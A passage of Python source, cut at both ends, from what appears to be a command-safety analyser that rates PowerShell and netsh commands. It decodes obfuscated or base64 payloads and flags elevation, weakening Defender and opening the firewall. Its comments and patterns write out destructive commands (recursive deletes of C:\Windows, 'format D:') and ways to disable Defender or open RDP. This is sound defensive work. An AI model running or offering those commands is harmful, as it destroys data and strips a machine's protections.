        # `iex (Get-Content x.ps1 -Raw)` of a file this block wrote: its text runs.
        cmd.scope.include(cmd.scope.nested(read, "powershell", code))
    elif code.dynamic and (folded := fold_powershell(code.text)) is not None:
        cmd.scope.include(cmd.scope.nested(folded, "powershell", code))
    elif code.dynamic and (built := ps_eval(code.text, ps_variables(cmd.scope))) is not None:
        # `iex ([char[]](114,109,…) -join '')`, `iex ('{1} {0}' -f …)`, a reversed string:
        # literal obfuscation, judged as the text it builds.
        cmd.add(
            M, "indirect-code", "runs code assembled from literal pieces (judged as built)", code
        )
        cmd.scope.include(cmd.scope.nested(built, "powershell", code))
    elif (
        "$" in code.text
        and (raw_code := cmd.scope.source[code.start : code.end].strip()).startswith('"')
        and raw_code.endswith('"')
        and (filled := interpolate_ps(raw_code, ps_variables(cmd.scope))) is not None
    ):
        # `$p='rm'; $a='-r -fo C:\Users'; iex "$p $a"`: every variable in the string has a
        # literal value set before: the code is that text (safety-m7).
        cmd.scope.include(cmd.scope.nested(filled, "powershell", code))
    elif code.dynamic or "$" in code.text or "frombase64" in text:
        if code.dynamic and "$" in code.text:
            _partial_code(cmd, code)
        if not code.dynamic:
            # `iex 'Remove-Item -Recurse $HOME'`: the variables are read when it runs, but
            # the known ones ($HOME, $env:SystemRoot) already say what it does; a literal
            # string that decodes (`iex 'iex ([Text.Encoding]::…FromBase64String(''…''))'`)
            # is code like any other: judged as written, its decoding included.
            cmd.scope.include(cmd.scope.nested(code.text, "powershell", code))
        cmd.add(C, "eval-dynamic", "Invoke-Expression runs code only known at run time", code)
    else:
        cmd.scope.include(cmd.scope.nested(code.text, "powershell", code))


_DQ_STRING = re.compile(r'"((?:[^"`]|`.)*)"')


class _SelfNamed(Mapping[str, str]):
    """Known variables, and every other plain variable as its own spelling (`$env:X` is
    `$env:X`): what an expression builds around values only known at run time."""

    __slots__ = ("_known",)

    def __init__(self, known: Mapping[str, str]) -> None:
        self._known = known

    def __getitem__(self, name: str) -> str:
        if name in self._known:
            return self._known[name]
        if name.startswith("$") and "." not in name:
            return name
        raise KeyError(name)

    def __contains__(self, name: object) -> bool:
        return isinstance(name, str) and (
            name in self._known or (name.startswith("$") and "." not in name)
        )

    def __iter__(self) -> Iterator[str]:
        return iter(self._known)

    def __len__(self) -> int:
        return len(self._known)


def _partial_code(cmd: Cmd, code: Word) -> None:
    """`iex ('Remove-Item C:\\Windows -Recurse -Force ' + $env:X)`: code built around
    values only known at run time stays opaque (critical), but when its literal parts
    already make a blocked command, it is blocked whatever the unknown parts hold."""
    if len(code.text) > _PSE_MAX:
        return
    raw = cmd.scope.source[max(code.start, 0) : max(code.end, 0)].strip()
    # (an expandable string argument as written: its word's text has `$x` for unknowns)
    text = raw if len(raw) > 1 and raw[0] == raw[-1] == '"' else code.text
    built = partial_code(text, ps_variables(cmd.scope))
    if built is None or built == code.text:
        return
    found = cmd.scope.nested(built, "powershell", code)
    cmd.scope.include([f for f in found if f.level >= B])


def partial_code(text: str, variables: Mapping[str, str]) -> str | None:
    """The code a PowerShell string expression builds with every unknown variable left as
    its own spelling (`'rd C:\\x ' + $env:X` is `rd C:\\x $env:x`), or None."""
    if len(text) > _PSE_MAX:
        return None
    known = _SelfNamed(variables)

    def filled(m: re.Match[str]) -> str:
        # a double-quoted string: its variables as their values (or their own spelling)
        body = _PS_REF.sub(lambda r: known["$" + (r.group(1) or r.group(2)).lower()], m.group(1))
        return "'" + body.replace("'", "''") + "'"

    if '"' in text and "$(" not in text:
        text = _DQ_STRING.sub(filled, text)
    built = ps_eval(text, known)
    if built is None and len(text) > 1 and text[0] == text[-1] == "'":
        built = text[1:-1].replace("''", "'")
    return built if built is not None and built.strip() else None


def _start_process(cmd: Cmd) -> None:
    params, _ = _ps_params(cmd)
    verb = params.get("verb")
    if verb is not None and verb.text.strip("'\"").lower() in ("runas", "runasuser"):
        # Elevated, and still the command line it starts is judged (`-Verb RunAs` with
        # `-ArgumentList '-Command Remove-Item C:\ -Recurse'` is a root wipe).
        cmd.add(C, "sudo", "Start-Process -Verb RunAs elevates to administrator", verb)
    else:
        cmd.add(M, "start-process", "starts a program")
    # `Start-Process cmd -ArgumentList '/c rd /s /q C:\'` runs that command line.
    workdir = _named_value(cmd, "workingdirectory", 2)
    if workdir is not None and workdir.text.startswith("-"):
        workdir = None
    # (w21: `-Wo C:\` abbreviated: its value is no positional program)
    positional = [w for w in _ps_positional(cmd) if w is not workdir]
    program = _named_value(cmd, "filepath", 2) or params.get("filepath")
    arguments = _named_value(cmd, "argumentlist", 3) or params.get("argumentlist")
    rest = [w for w in positional if w is not program]
    program = program or (rest[0] if rest else None)
    if program is not None and program.dynamic and "(" in program.text:
        looked = _looked_up_program(cmd, program)  # `Start-Process (gcm bcdedit).Source` (n14w)
        if looked is not None:
            program = Word(looked, program.start, program.end)
    if arguments is None and len(rest) > 1:
        arguments = rest[1]
    if arguments is None and program is not None:
        # (w21) `Start-Process powershell '-c Remove-Item …'`: a quoted string that starts
        # with a dash is a value (the argument list), not a parameter
        src = cmd.scope.source
        arguments = next(
            (
                w
                for w in cmd.args
                if w is not program
                and w is not workdir
                and w.text.startswith("-")
                and 0 <= w.start < len(src)
                and src[w.start] in "'\""
            ),
            None,
        )
    base = program.text.replace("/", "\\").rsplit("\\", 1)[-1] if program is not None else ""
    if program is not None and not program.dynamic and base in cmd.scope.downloaded:
        cmd.add(C, "download-exec", f"starts {base}, which was just downloaded", program)
    if program is not None and arguments is not None and not program.dynamic:
        text = arguments.text
        if arguments.dynamic:
            # `-ArgumentList '/c','rd','/s'`: a constant array is its items joined by spaces.
            folded = fold_powershell(text)
            if folded is None and text.strip().startswith("@("):
                # `-ArgumentList @('/c','format','D:')`: the array subexpression's items
                folded = fold_powershell(text.strip()[2:-1] if text.strip().endswith(")") else "")
            if folded is None:
                cmd.add(C, "eval-dynamic", "starts a program with arguments only known at run time")
                return
            text = folded
        extra = [
            Word(w.text, arguments.start, arguments.end, w.dynamic, w.glob)
            for w in split_words(text, posix=False)
        ]
        if workdir is None:
            cmd.judge([program, *extra])
            return
        # (w21, review 20 U5) `Start-Process -WorkingDirectory C:\ cmd '/c rd /s /q
        # Windows'`: the program starts in that folder; its relative paths are judged there
        saved_cwds, saved_cd = cmd.scope.cwds, cmd.scope.pending_cd
        cmd.scope.pending_cd = workdir.text
        try:
            apply_windows_cd(cmd.scope)
            cmd.judge([program, *extra])
        finally:
            cmd.scope.cwds, cmd.scope.pending_cd = saved_cwds, saved_cd
    elif program is not None and arguments is None:
        run_script_file(cmd, program)  # `Start-Process C:\\t\\u.exe` after downloading it


def _named_value(cmd: Cmd, name: str, shortest: int) -> Word | None:
    """The word after `-Name` (or an unambiguous abbreviation such as `-Args`), even when
    that value itself starts with a dash (`-ArgumentList '-c …'`)."""
    for i, w in enumerate(cmd.args[:-1]):
        t = w.text.lower()
        if t.startswith("-") and len(t) - 1 >= shortest and name.startswith(t[1:]):
            return cmd.args[i + 1]
        if t == "-args" and name == "argumentlist":
            return cmd.args[i + 1]
    return None


def _ps_positional(cmd: Cmd) -> list[Word]:
    return list(_ps_bound(cmd).positional)


def _set_execution_policy(cmd: Cmd) -> None:
    params, positional = _ps_params(cmd)
    policy = params.get("executionpolicy") or (positional[0] if positional else None)
    scope = params.get("scope")
    weak = policy is not None and policy.text.lower() in ("unrestricted", "bypass")
    if weak and (scope is None or scope.text.lower() != "process"):
        cmd.add(C, "disable-security", "turns off script signing checks beyond this session")
    else:
        cmd.add(M, "security", "changes the script execution policy")


def _turned_back_on(text: str, param: str) -> bool:
    """`-DisableRealtimeMonitoring $false` / `0`: the protection is turned (back) on."""
    return bool(re.search(rf"-{param}\s*:?\s*[\"']?(\$false|0|false)\b", text))


# Set-MpPreference's documented parameter aliases (`-DRTM` is -DisableRealtimeMonitoring).
_MP_ALIASES = {
    "drtm": "disablerealtimemonitoring",
    "dbm": "disablebehaviormonitoring",
    "dioavp": "disableioavprotection",
    "dscrptsc": "disablescriptscanning",
    "dbaf": "disableblockatfirstseen",
    "dpm": "disableprivacymode",
    "darchsc": "disablearchivescanning",
    "demsc": "disableemailscanning",
    "dips": "disableintrusionpreventionsystem",
    "drdsc": "disableremovabledrivescanning",
    "dsnf": "disablescanningnetworkfiles",
    "dscrmsc": "disablescanningmappednetworkdrivesforfullscan",
    "dcaq": "disablecatchupquickscan",
    "dcafs": "disablecatchupfullscan",
    "ecfa": "enablecontrolledfolderaccess",
    "rtsd": "realtimescandirection",
}


def _mp_preference(cmd: Cmd) -> None:
    params, _ = _ps_params(cmd)
    params = {_MP_ALIASES.get(k, k): v for k, v in params.items()}
    text = " ".join(
        "-" + _MP_ALIASES.get(t.lower()[1:], t.lower()[1:]) if t.startswith("-") else t.lower()
        for t in cmd.texts()
    )
    if (
        cmd.name == "add-mppreference"
        or any(p.startswith("exclusion") for p in params)
        or any(p.startswith("disable") and not _turned_back_on(text, p) for p in params)
        or re.search(
            r"-(mapsreporting|puaprotection|enablecontrolledfolderaccess|enablenetworkprotection"
            r"|cloudblocklevel|allownetworkprotection\w*)\s+[\"']?(0|disabled?|auditmode|\$false)\b"
            r"|-submitsamplesconsent\s+[\"']?(2|neversend)\b"
            r"|-\w*defaultaction\s+[\"']?(allow|noaction|6|9)\b|-\w*_actions\s+[\"']?(allow|6|9|0"
            r"|disabled)\b",
            text,
        )
    ):
        cmd.add(C, "disable-security", "weakens Microsoft Defender")
    else:
        cmd.add(M, "security", "changes Defender settings")


# (n18w) an inbound allow rule with no port, program or service limit opens every port to
# anyone: `netsh advfirewall firewall add rule dir=in action=allow protocol=any`,
# `New-NetFirewallRule -Direction Inbound -Action Allow` (Inbound and Allow are its defaults).
# A limit on the local port, program, service or remote address keeps it a scoped change, as
# does ICMP (ping) or a rule created disabled.
_NETSH_ADD_RULE = re.compile(r"\bfirewall\s+add\s+rule\b")
_NETSH_LIMITS = re.compile(
    r"\b(?:localport|program|service|remoteip|remoteport)=(?!any\b|[01]-65535\b)"
    r"|protocol=(?!any\b|tcp\b|udp\b|6\b|17\b)"
    r"|\benable=no\b"
)
_NFR_LIMITS = (
    "localport",
    "remoteport",
    "program",
    "service",
    "package",
    "remoteaddress",
    "owner",
    "localuser",
    "remoteuser",
    "interfacealias",
    "interfacetype",
    "icmptype",
)


def _nfr_value(args: list[str], name: str, shortest: int) -> str | None:
    """The value of `-Name value` / `-Name:value` (any unique abbreviation) or None."""
    for i, t in enumerate(args):
        if t.startswith("-"):
            key, colon, val = t[1:].partition(":")
            if len(key) >= shortest and name.startswith(key):
                return val if colon and val else (args[i + 1] if i + 1 < len(args) else "")
    return None


# (n18w) a Where-Object test every item passes: `{ $true }`, `-like '*'`, `-match '.'`,
# `-ne $null`, `$null -ne $_.X` (the simplified `? Subject -like '*'` too): no selection.
_ALL_TESTS = re.compile(
    r"(?i)\A(?:\$true|1|\$_|\$psitem|!\s*\$false|-not\s+\$false|\$true\s+-eq\s+\$true|1\s+-eq\s+1"
    r"|(?:-property\s+)?[$\w.]+\s+-[ci]?like\s+(?:-value\s+)?(?:'\*+'|\"\*+\"|\*+)"
    r"|(?:-property\s+)?[$\w.]+\s+-[ci]?match\s+(?:-value\s+)?"
    r"(?:'(?:\.[*+]?|\^\.?\*?|\$|\^\.\*\$|)'|\"(?:\.[*+]?|\^\.?\*?|\^\.\*\$|)\"|\.[*+]?)"
    r"|(?:-property\s+)?[$\w.]+\s+-[ci]?ne\s+(?:-value\s+)?(?:\$null|''|\"\")"
    r"|(?:-property\s+)?[$\w.]+\s+-[ci]?notlike\s+(?:-value\s+)?(?:''|\"\")"
    r"|(?:-property\s+)?[$\w.]+\s+-[ci]?notmatch\s+(?:-value\s+)?(?:'\^\$'|\"\^\$\")"
    r"|\$null\s+-[ci]?ne\s+[$\w.]+)\Z"
)


def selects_all(stage: str) -> bool:
    """`Where-Object { $_.Subject -like '*' }` / `? Name -match '.'`: a filter that keeps
    every item (one always-true test, or `-or` with one)."""
    body = stage.strip()
    head, _, body = body.partition(" ")
    if head.lower() not in ("?", "where", "where-object"):
        return False
    body = re.sub(r"(?i)\A-filterscript\s+", "", body.strip())
    if body.startswith("{") and body.endswith("}"):
        body = body[1:-1]
    body = body.strip()
    if len(body) > 200:
        return False
    while body.startswith("(") and body.endswith(")"):
        body = body[1:-1].strip()
    parts = re.split(r"(?i)\s-or\s", body)
    return any(_ALL_TESTS.match(p.strip().strip("()").strip()) is not None for p in parts)


# (r18) a Where body that is only the Action=Block test (every block rule kept)
_ONLY_BLOCK_RULES = re.compile(
    r"(?i)\A(?:\$(?:_|psitem)\.)?action\s+-[ci]?(?:eq|like|match)\s+['\"]?\^?block\$?['\"]?\Z"
)


def _only_block_rules(stage: str) -> bool:
    body = re.sub(r"(?i)\A(?:where-object|where|\?)\s+(?:-filterscript\s+)?", "", stage.strip())
    body = body.strip()
    if body.startswith("{") and body.endswith("}"):
        body = body[1:-1].strip()
    while body.startswith("(") and body.endswith(")"):
        body = body[1:-1].strip()
    return _ONLY_BLOCK_RULES.match(body) is not None


def _every_rule_kept(upstream: str) -> bool:
    stages = [st.strip() for st in upstream.split("|")]
    if any(re.search(r"(?i)-(?:display)?(?:name|group)\s+['\"]?[^*'\"\s|]", st) for st in stages):
        return False
    wheres = [st for st in stages if re.match(r"(?i)(?:where-object|where|\?)\s", st)]
    # (every block rule made to allow is the same: `? { $_.Action -eq 'Block' }`; an extra
    # `-and` narrowing picks some rules only)
    return all(selects_all(st) or _only_block_rules(st) for st in wheres)


def _pipeline_upstream(src: str, start: int) -> str:
    """(r18) The pipeline's text before the command at `start`: back over lines that end
    with `|` or a backtick (or a next line starting with `|`), up to the statement's `;`."""
    lines = src[:start].split("\n")
    i = len(lines) - 1
    while i > 0:
        prev = lines[i - 1].rstrip()
        if prev.endswith(("|", "`")) or lines[i].lstrip().startswith("|"):
            i -= 1
            continue
        break
    text = "\n".join(lines[i:])
    return text[text.rfind(";") + 1 :][-600:]


# (r18) `Get-NetFirewallApplicationFilter -Program x | Get-NetFirewallRule`: the filter
# cmdlets pick the rules of one program, port, address or service (not with -All)
_FILTER_PICK = re.compile(r"(?i)\bget-netfirewall\w*filter\b(?!\s+-all\b)\s+-\w")


@handles("set-netfirewallrule", windows_only=True)
def _set_firewall_rule(cmd: Cmd) -> None:
    """(n18w) `Set-NetFirewallRule -DisplayName * -Action Allow`, `Get-NetFirewallRule |
    Set-NetFirewallRule -Action Allow`: every rule (the block rules too) made to allow is the
    firewall turned off (critical); one named rule changed stays a scoped change."""
    args = [t.lower().strip("'\"") for t in cmd.texts()]
    action = _nfr_value(args, "action", 2)
    enabled = _nfr_value(args, "enabled", 2)
    # (w22) `-Enabled:$true` reaches here as `-Enabled` alone (a true value only confirms it)
    switched_on = enabled is not None and (
        enabled in ("true", "$true", "1", "") or enabled.startswith("-")
    )
    chosen = " ".join(
        v for p in ("displayname", "name", "group", "displaygroup") if (v := _nfr_value(args, p, 2))
    )
    if cmd.stdin.kind != "none" and cmd.start > 0:
        # (w22) `Get-NetFirewallRule -DisplayGroup "Remote Desktop" | Set-NetFirewallRule
        # -Enabled True`: the rules come down the pipe; the listing before names them
        chosen += " " + _pipeline_upstream(cmd.scope.source, cmd.start).lower()
    if _loopback_only(_nfr_values(args, "remoteaddress", 7)) and not _array_goes_on(cmd):
        # (w22) `… -Enabled True -RemoteAddress 127.0.0.1`: the rule narrowed to this machine
        cmd.add(M, "firewall", "changes firewall rules (only this machine may connect)")
        return
    if (switched_on or action == "allow") and remote.REMOTE_RULE_GROUPS.search(chosen):
        # (w21) `Set-NetFirewallRule -DisplayGroup "Remote Desktop" -Enabled True`: as
        # Enable-NetFirewallRule of the group, remote access opened
        cmd.add(C, "remote-access", f"{cmd.name} switches on remote-access firewall rules")
        return
    if (
        remote.opens_login_port(_nfr_value(args, "localport", 6) or "")
        and action != "block"
        and enabled not in ("false", "$false", "0")
        and not (_nfr_value(args, "direction", 2) or "in").startswith("out")
    ):
        # (w22) `Set-NetFirewallRule -DisplayName x -LocalPort 3389 -Action Allow`: an
        # existing rule edited to let a remote-login port in
        cmd.add(C, "remote-access", f"{cmd.name} opens a remote-login port on a firewall rule")
        return
    if action == "allow":
        named = [_nfr_value(args, p, 2) for p in ("displayname", "name", "group", "displaygroup")]
        given = [v for v in named if v is not None]
        piped = cmd.stdin.kind != "none" and not given
        if piped:
            # (what the listing piped in picked: a rule by name, or a narrowing filter)
            upstream = _pipeline_upstream(cmd.scope.source, max(cmd.start, 0))
            picked = re.search(
                r"(?i)-(?:display)?(?:name|group)\s+['\"]?[^*'\"\s|]|\b(?:where-object|where|\?)\s",
                upstream,
            )
            piped = _FILTER_PICK.search(upstream) is None and (
                picked is None or _every_rule_kept(upstream)
            )
        if piped or any(v in ("*", "") or v.strip("*") == "" for v in given):
            cmd.add(C, "disable-security", f"{cmd.name} makes every firewall rule allow traffic")
            return
    cmd.add(M, "firewall", "changes firewall rules")


def _nfr_values(args: list[str], name: str, shortest: int) -> str | None:
    """(w22, review 22 U1) Every value of `-Name a,b` / `-Name a, b` / `-Name:a,b` (the
    array PowerShell binds), joined by commas; None when the parameter is not given."""
    for i, t in enumerate(args):
        if t.startswith("-"):
            key, colon, val = t[1:].partition(":")
            if len(key) >= shortest and name.startswith(key):
                values = [val] if colon and val else []
                for nxt in args[i + 1 : i + 64]:
                    if nxt.startswith("-"):
                        break
                    values.append(nxt)
                return ",".join(v.strip(",") for v in values if v.strip(","))
    return None


def _array_goes_on(cmd: Cmd) -> bool:
    """(w22) A `-RemoteAddress a, b` array whose later items the words lost: a `,` follows
    the parameter's value in the source (the list is then not known to be loopback only)."""
    src = cmd.scope.source
    for i, w in enumerate(cmd.args[:-1]):
        if w.text.lower().startswith("-remoteaddr"):
            value = cmd.args[i + 1]
            return 0 <= value.end <= len(src) and src[value.end : value.end + 4].lstrip()[:1] == ","
    return False


def _loopback_only(addresses: str | None) -> bool:
    """(w22) A remote-address list that names only this machine (`127.0.0.1`, `::1`)."""
    if not addresses:
        return False
    return all(_LOOPBACK.match(a) for a in addresses.split(",") if a)


@handles("set-netfirewallportfilter", windows_only=True)
def _set_port_filter(cmd: Cmd) -> None:
    """(w22) `Get-NetFirewallRule -DisplayName x | Get-NetFirewallPortFilter |
    Set-NetFirewallPortFilter -LocalPort 3389`: the ports of existing rules changed; a
    remote-login port let in is remote access opened (critical), as a new rule for it."""
    args = [t.lower().strip("'\"") for t in cmd.texts()]
    if remote.opens_login_port(_nfr_value(args, "localport", 6) or ""):
        cmd.add(C, "remote-access", f"{cmd.name} opens a remote-login port on a firewall rule")
    else:
        cmd.add(M, "firewall", "changes the ports of firewall rules")


def _netsh_new_values(texts: list[str]) -> tuple[dict[str, str], dict[str, str]]:
    """(w22) `netsh … set rule name=x localport=80 new action=allow localport=3389`: the
    rule's selectors (before `new`) and its new values (after), lower-cased."""
    picked: dict[str, str] = {}
    new: dict[str, str] = {}
    into = picked
    for t in texts[:128]:
        low = t.lower()
        if low == "new":
            into = new
            continue
        key, eq, val = low.partition("=")
        if eq:
            into.setdefault(key, val.strip("'\""))
    return picked, new


def _opens_every_port(cmd: Cmd, text: str) -> bool:
    if cmd.name == "netsh":
        if _NETSH_ADD_RULE.search(text) is None or "action=allow" not in text:
            return False
        return "dir=in" in text and _NETSH_LIMITS.search(text) is None
    if cmd.name != "new-netfirewallrule":
        return False
    args = [t.lower().strip("'\"") for t in cmd.texts()]
    for limit in _NFR_LIMITS:
        value = _nfr_value(args, limit, 4)
        if value is not None and value not in ("any", "*", "1-65535", "0-65535"):
            return False
    direction = _nfr_value(args, "direction", 2) or "inbound"
    action = _nfr_value(args, "action", 2) or "allow"
    protocol = _nfr_value(args, "protocol", 4) or "any"
    enabled = _nfr_value(args, "enabled", 2) or "true"
    return (
        direction.startswith("in")
        and action == "allow"
        and protocol in ("any", "tcp", "udp", "6", "17")
        and enabled not in ("false", "$false", "0")
    )


# netsh's legacy `firewall set service type=remotedesktop|fileandprint|remoteadmin`
_NETSH_SERVICES = re.compile(r"\b(?:type=)?(?:remotedesktop|fileandprint|remoteadmin)\b")
_LOOPBACK = re.compile(r"\A(?:127\.[\d.]+(?:/(?:[89]|[12]\d|3[0-2]))?|::1(?:/128)?|localhost)\Z")


def _inbound_remote_access(cmd: Cmd, text: str) -> str:
    """(w21) Why an inbound allow rule opens remote access ("" when it does not): a
    remote-login port (RDP 3389, SSH 22, WinRM 5985/5986, SMB 445...) let in from anywhere
    but the loopback, any port explicitly let in from any address, or the remote-desktop /
    WinRM / file-sharing rule groups switched on. An ordinary app port for the local
    subnet or without an address stays a scoped change (moderate)."""
    if cmd.name == "netsh":
        pairs: dict[str, str] = {}
        last = ""
        for t in cmd.texts()[:128]:  # (a rule has a dozen key=value words)
            key, eq, val = t.lower().partition("=")
            if eq:
                last = key
                pairs.setdefault(key, val.strip("'\""))
            elif last.endswith("port") and len(pairs[last]) < 256 and re.fullmatch(r"[\d,-]+", t):
                # (cmd splits `localport=21,22` at the comma; netsh reads the whole list)
                pairs[last] = pairs.get(last, "") + "," + t
            elif last.endswith("ip") and len(pairs[last]) < 256 and re.fullmatch(r"[\w.:/,-]+", t):
                # (w22) `remoteip=127.0.0.1,10.0.0.0/8`: the whole address list
                pairs[last] = pairs.get(last, "") + "," + t
        if re.search(r"\bfirewall\s+set\s+rule\b", text):
            picked = pairs.get("group", "") + " " + pairs.get("name", "")
            if pairs.get("enable") == "yes" and remote.REMOTE_RULE_GROUPS.search(picked):
                return "switches on the firewall rules for remote desktop, WinRM or file sharing"
            chosen, new = _netsh_new_values(cmd.texts())
            if not new or _loopback_only(new.get("remoteip")) or new.get("enable") == "no":
                return ""
            if new.get("action", "allow") != "allow" or new.get("dir", "in") != "in":
                return ""
            port = new.get("localport") or (
                chosen.get("localport", "") if "action" in new or new.get("enable") == "yes" else ""
            )
            if remote.opens_login_port(port):
                # (w22) `set rule name=x new action=allow localport=3389`: an existing rule
                # edited to let a remote-login port in
                return "opens a remote-login port on an existing firewall rule"
            return ""
        service = re.search(r"\bset\s+service\b", text)
        if (
            service is not None
            and _NETSH_SERVICES.search(text, service.end()) is not None
            and "disable" not in text
        ):
            return "opens the firewall for remote desktop, file sharing or remote admin"
        legacy = re.search(r"\bfirewall\s+(?:add|set)\s+portopening\b", text)
        if legacy and "mode=disable" not in text:
            words = [w.partition("=")[2] or w for w in text[legacy.end() :].split()]
            port = pairs.get("port") or next((w for w in words if w.isdigit()), "")
            if remote.opens_login_port(port):
                return "opens a remote-login port (RDP, SSH, SMB, WinRM) in the firewall"
            if pairs.get("scope") == "all":
                return "opens a port in the firewall to every address"
            return ""
        if _NETSH_ADD_RULE.search(text) is None or pairs.get("action") != "allow":
            return ""
        if pairs.get("dir", "in") != "in" or pairs.get("enable") == "no":
            return ""
        remote_ip = pairs.get("remoteip", "")
        ports = pairs.get("localport", "")
    elif cmd.name == "new-netfirewallrule":
        args = [t.lower().strip("'\"") for t in cmd.texts()]
        direction = _nfr_value(args, "direction", 2) or "inbound"
        action = _nfr_value(args, "action", 2) or "allow"
        enabled = _nfr_value(args, "enabled", 2) or "true"
        if not direction.startswith("in") or action != "allow":
            return ""
        if enabled in ("false", "$false", "0"):
            return ""
        remote_ip = _nfr_values(args, "remoteaddress", 7) or ""
        ports = _nfr_value(args, "localport", 6) or ""
    else:
        return ""
    if _loopback_only(remote_ip):
        return ""
    if remote.opens_login_port(ports):
        # (the local subnet or a LAN range too: a login port open to the network)
        return "lets other machines in to a remote-login port (RDP, SSH, SMB, WinRM)"
    # (w22) an explicit `remoteip=any` is the default: an ordinary app port stays a scoped
    # change; every port from anywhere is `_opens_every_port`'s
    return ""


def _firewall(cmd: Cmd) -> None:
    text = " ".join(cmd.texts()).lower()
    if cmd.name in ("netsh", "new-netfirewallrule") and not _help(cmd):
        why = _inbound_remote_access(cmd, text)
        if why:
            cmd.add(C, "remote-access", f"{cmd.name} {why}")
            return
    if cmd.name == "netsh" and re.search(r"\badd\s+helper\b", text):
        cmd.add(C, "persistence-dll", "netsh add helper registers a DLL netsh loads every time")
        return
    if cmd.name == "new-netfirewallrule" and not _opens_every_port(cmd, text):
        cmd.add(M, "firewall", "changes firewall rules")  # (its -Enabled False is the rule's)
        return
    if re.search(
        r"enabled\s*:?\s*(\$?false|0)|state\s+off|-enabled false|opmode\s+(mode=)?disable"
        r"|defaultinboundaction\s+allow|firewallpolicy\s+allowinbound"
        r"|set\s+rule\s+(?:.*name=)?all\b.*\benable=no\b|delete\s+rule\s+(?:.*name=)?all\b"
        r"|set\s+rule\s+(?:.*name=)?all\b.*\bnew\b.*\baction=allow\b"
        r"|firewallpolicy\s+\S*allowinbound",
        text,
    ):
        cmd.add(C, "disable-security", "turns the firewall off")
    elif _opens_every_port(cmd, text):
        cmd.add(C, "firewall-open", "adds a firewall rule letting anyone in on every port")
    elif cmd.name.startswith(("get", "show")) or "show" in text:
        return
    elif cmd.name == "netsh" and re.search(
        r"\bfirewall\s+delete\s+rule\b.*\bname=[\"']?[^\"'=]{0,80}?\b(?:block|deny)", text
    ):
        # (n19w) `netsh advfirewall firewall delete rule name="Block SMB"`: a rule whose name
        # says it blocks, deleted: what it kept out comes in (as Remove-NetFirewallRule of a
        # named rule, dangerous); another named rule (an allow rule for a port) stays moderate
        cmd.add(D, "delete", "netsh deletes a firewall rule that blocks traffic")
    else:
        cmd.add(M, "firewall", "changes firewall rules")


# Cmdlets (and aliases) that cannot run without an operand: alone at the end of a decoded
# payload they are a command cut short (PowerShell would stop and prompt for it).
_NEEDS_OPERAND = frozenset(
    names(
        """
        new-object iex invoke-expression start-process saps remove-item ri set-content
        add-content out-file invoke-webrequest iwr invoke-restmethod irm copy-item cpi
        move-item mi rename-item rni import-module ipmo add-type foreach-object where-object
        invoke-command icm set-variable sv join-path split-path test-path get-content gc
        set-item si new-item ni set-itemproperty sp start-bitstransfer expand-archive
        """
    )
)
# Parameters that take a value: last in a decoded payload, their value was cut off.
_VALUE_PARAMS = frozenset(
    names(
        """
        -argumentlist -args -typename -comobject -uri -path -literalpath -filepath -command
        -outfile -destination -value -scriptblock -encodedcommand -name -body -method -infile
        -source -headers -memberdefinition -assemblyname
        """
    )
)


def ps_fragment(code: str) -> bool:
    """Decoded PowerShell that stops before its last command is whole: it ends on an
    operator or an open bracket, on a parameter still waiting for its value, on a cmdlet
    that needs an operand given none (`$c=New-Object`), or on part of a cmdlet's name
    (`Remove-Ite`)."""
    text = code.rstrip()
    if not text:
        return False
    if text[-1] in "=(|,+{[.`" or text.lower().endswith(("-and", "-or", "-f", "-join")):
        return True
    last = re.split(r"[;\n]", text)[-1].strip()
    last = re.sub(r"\A\$[\w:]+\s*=\s*", "", last).strip("( ")
    words = last.split()
    if not words:
        return False
    tail = words[-1].lower()
    if len(words) > 1:
        return tail in _VALUE_PARAMS
    return tail in _NEEDS_OPERAND or _cut_cmdlet(tail)


def _cut_cmdlet(word: str) -> bool:
    """`word` is the start of a cmdlet's name the analyser knows, not a name itself."""
    if "-" not in word or word in HANDLERS or word in PS_ALIASES:
        return False
    return any(n.startswith(word) for n in _known_cmdlets())


@functools.lru_cache(maxsize=1)
def _known_cmdlets() -> frozenset[str]:
    return frozenset(
        n for n in (*HANDLERS, *PS_ALIASES.values()) if "-" in n and not n.startswith("-")
    )


# A whole base64 text: groups of four characters of the alphabet, padded at the end.
_B64_WHOLE = re.compile(r"(?:[A-Za-z0-9+/]{4})*(?:[A-Za-z0-9+/]{2}==|[A-Za-z0-9+/]{3}=)?")


def _powershell_exe(cmd: Cmd) -> None:
    if any(w.text[:1] in "\u2013\u2014\u2015" for w in cmd.args):
        # PowerShell takes an en dash, em dash or horizontal bar as the parameter prefix.
        words = [
            Word("-" + w.text[1:], w.start, w.end, w.dynamic, w.glob, w.origin)
            if w.text[:1] in "\u2013\u2014\u2015"
            else w
            for w in cmd.words
        ]
        cmd = Cmd(words, cmd.name, cmd.scope, cmd.stdin)
    if any(re.fullmatch(r"/[A-Za-z]+", w.text) for w in cmd.args):
        # powershell.exe takes `/Command`, `/enc` … as well as `-Command`, `-enc`.
        words = [
            Word("-" + w.text[1:], w.start, w.end, w.dynamic, w.glob, w.origin)
            if re.fullmatch(r"/[A-Za-z]+", w.text)
            else w
            for w in cmd.words
        ]
        cmd = Cmd(words, cmd.name, cmd.scope, cmd.stdin)
    params, positional = _ps_params(cmd)
    encoded = [
        k for k in params if k in ("e", "ec") or ("encodedcommand".startswith(k) and len(k) > 1)
    ]
    for key in encoded:
        val = params.get(key)
        if val is not None:
            b64 = val.text
            if val.dynamic and b64.startswith("("):
                # `-enc ([Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes('…')))`:
                # an encoding built from literals is the text it encodes.
                b64 = ps_eval(b64, ps_variables(cmd.scope)) or b64
            try:
                code = base64.b64decode(b64 + "=" * (-len(b64) % 4)).decode("utf-16-le")
            except (binascii.Error, ValueError, UnicodeDecodeError):
                code = ""
            if code and not val.dynamic and _B64_WHOLE.fullmatch(b64) is None:
                # Cut short (its length is not a multiple of four) or with bytes outside
                # base64: PowerShell would not run it as written; what a readable prefix
                # says is a guess, so the payload is opaque: critical, not judged from the
                # prefix (session-14 convention; red team round 12's exact line)
                code = ""
            found = cmd.scope.nested(code, "powershell", val, -1) if code else []
            cmd.scope.include(found)
            hidden = any(
                k in ("w", "wi", "win", "window", "windowstyle")
                and v is not None
                and v.text.lower() in ("hidden", "1")
                for k, v in params.items()
            )
            if not decoded_readable(code, found):
                cmd.add(
                    C, "encoded-command", "runs a base64-encoded (hidden) PowerShell command", val
                )
            elif ps_fragment(code):
                # `$c=New-Object`, `Remove-Ite`, `… -ArgumentList`: the decoded text stops
                # before its command is whole (a payload cut short): opaque (session 14)
                cmd.add(
